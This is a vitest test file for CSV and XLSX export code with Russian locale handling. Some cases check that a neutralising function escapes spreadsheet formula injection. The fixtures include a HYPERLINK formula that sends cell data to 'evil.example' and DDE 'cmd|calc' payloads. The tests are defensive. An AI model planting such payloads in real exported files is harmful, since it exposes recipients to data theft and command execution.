import { buffer, text } from 'node:stream/consumers';
import { Readable } from 'node:stream';
import Excel from 'exceljs';
import { describe, expect, it } from 'vitest';
import type { Row } from '../../warehouse/warehouse.ts';
import { csvChunks, neutral } from './csv.ts';
import type { ExportColumn, ExportPlace, ExportTable } from './table.ts';
import { xlsxChunks } from './xlsx.ts';

const columns: readonly ExportColumn[] = [
  { key: 'title', title: 'Сделка', kind: 'text' },
  { key: 'amount', title: 'Сумма', kind: 'money' },
  { key: 'count', title: 'Штук', kind: 'integer' },
  { key: 'rate', title: 'Доля', kind: 'share' },
  { key: 'is_new', title: 'Новая', kind: 'boolean' },
  { key: 'day', title: 'День', kind: 'date' },
  { key: 'at', title: 'Когда', kind: 'instant' },
];
const ru: ExportPlace = { locale: 'ru', timezone: 'Europe/Moscow', currency: 'RUB' };
const row = {
  title: 'Поставка «Север»; склад 2',
  amount: '-22700.50',
  count: 12345678901234567n,
  rate: 0.25,
  is_new: true,
  day: '2024-03-01',
  at: '2024-02-29T21:30:00Z',
};
const empty = Object.fromEntries(columns.map(({ key }) => [key, null]));

const table = (rows: readonly Row[]): ExportTable => ({
  title: 'Сделки',
  columns,
  rows: (async function* () {
    for (let at = 0; at < rows.length; at += 2) yield rows.slice(at, at + 2);
  })(),
  about: [['Статус', 'won']],
  asOf: '2026-03-01T10:00:00Z',
});
const csv = (rows: readonly Row[], place: ExportPlace) => text(Readable.from(csvChunks(table(rows), place)));
const book = async (rows: readonly Row[], place: ExportPlace, sheetRows?: number) => {
  const bytes = await buffer(Readable.from(xlsxChunks(table(rows), place, sheetRows)));
  const read = new Excel.Workbook();
  await read.xlsx.load(bytes as never);
  return read;
};

describe('CSV', () => {
  it('opens in a Russian Excel: mark, semicolons, decimal commas, the wall clock of the company', async () => {
    expect(await csv([row, empty], ru)).toBe(
      '\ufeffСделка;Сумма;Штук;Доля;Новая;День;Когда\r\n' +
        '"Поставка «Север»; склад 2";-22700,50;12345678901234567;0,25;да;2024-03-01;2024-03-01 00:30:00\r\n' +
        ';;;;;;\r\n',
    );
  });

  it('keeps the decimal point in English', async () => {
    expect(await csv([row], { ...ru, locale: 'en' })).toContain(';-22700.50;12345678901234567;0.25;yes;');
  });

  it.each([
    ['=1+1', "'=1+1"],
    ['=HYPERLINK("http://evil.example?x="&A1)', `'=HYPERLINK("http://evil.example?x="&A1)`],
    ['+cmd', "'+cmd"],
    ['-2+3+cmd|calc', "'-2+3+cmd|calc"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t=1"],
    ['\r=1', "'\r=1"],
    ['  =1', "'  =1"],
    ['＝1', "'＝1"],
    ['-5', '-5'],
    ['+7.5', '+7.5'],
    ['+7 921 555', "'+7 921 555"],
    ['Анна', 'Анна'],
    ['a=b', 'a=b'],
  ])('text %j is written as %j', (given, written) => expect(neutral(given)).toBe(written));

  it('neutralises formulas in cells, in headers and in numbers that are none', async () => {
    const evil = { ...empty, title: '=cmd|"/c calc"!A1', amount: '=1+1', day: '=1', at: '@now' };
    const lines = (await csv([evil], ru)).split('\r\n');
    expect(lines[1]).toBe(`"'=cmd|""/c calc""!A1";'=1+1;;;;'=1;'@now`);
  });
});

describe('XLSX', () => {
  it('reads back exact numbers, dates and texts, the cover first', async () => {
    const read = await book([row, empty, { ...empty, title: 'last' }], ru);
    expect(read.worksheets.map(({ name }) => name)).toEqual(['О выгрузке', 'Данные']);
    const data = read.worksheets[1] as Excel.Worksheet;
    expect((data.getRow(1).values as unknown[]).slice(1)).toEqual(columns.map(({ title }) => title));
    const cells = data.getRow(2);
    expect(cells.getCell(1).value).toBe('Поставка «Север»; склад 2');
    expect(cells.getCell(2).value).toBe(-22700.5);
    expect(cells.getCell(2).numFmt).toContain('₽');
    // seventeen digits do not fit Excel's numbers, so they stay text
    expect(cells.getCell(3).value).toBe('12345678901234567');
    expect(cells.getCell(4).value).toBe(0.25);
    expect(cells.getCell(5).value).toBe(true);
    expect(cells.getCell(6).value).toEqual(new Date('2024-03-01T00:00:00Z'));
    expect(cells.getCell(7).value).toEqual(new Date('2024-03-01T00:30:00Z'));
    expect(data.rowCount).toBe(4);
    expect(data.getRow(4).getCell(1).value).toBe('last');
    const cover = read.worksheets[0] as Excel.Worksheet;
    expect(cover.getCell('A1').value).toBe('Сделки');
    expect([cover.getCell('A3').value, cover.getCell('B3').value]).toEqual(['Строк', 3]);
    expect(cover.getCell('B4').value).toBe('2026-03-01 13:00:00 (Europe/Moscow)');
    expect([cover.getCell('A6').value, cover.getCell('B6').value]).toEqual(['Статус', 'won']);
  });

  it('text is never a formula and never breaks the XML', async () => {
    const hostile = '=1+1</t></is></c> & "x" \u0001 \ud800 <b>';
    const read = await book([{ ...empty, title: hostile }], ru);
    const cell = (read.worksheets[1] as Excel.Worksheet).getCell('A2');
    expect(cell.type).toBe(Excel.ValueType.String);
    expect(cell.value).toBe('=1+1</t></is></c> & "x" \ufffd \ufffd <b>');
  });

  it('goes on to another sheet where one is full, and no row is lost', async () => {
    const rows = Array.from({ length: 7 }, (_, at) => ({ ...empty, title: `row ${at}` }));
    const read = await book(rows, { ...ru, locale: 'en' }, 4);
    expect(read.worksheets.map(({ name }) => name)).toEqual(['About', 'Data', 'Data 2', 'Data 3']);
    const titles = read.worksheets.slice(1).flatMap((sheet) => {
      const found: unknown[] = [];
      sheet.eachRow((line, number) => number > 1 && found.push(line.getCell(1).value));
      return found;
    });
    expect(titles).toEqual(rows.map(({ title }) => title));
  });

  it('no rows make an empty sheet under its header', async () => {
    const read = await book([], ru);
    expect(read.worksheets.map(({ rowCount }) => rowCount)).toEqual([6, 1]);
  });

  it('fails when the rows fail, so that a cut file is never taken for a whole one', async () => {
    const broken: ExportTable = {
      ...table([]),
      rows: (async function* () {
        yield [row];
        throw new Error('the engine went away');
      })(),
    };
    await expect(buffer(Readable.from(xlsxChunks(broken, ru)))).rejects.toThrow('the engine went away');
  });
});
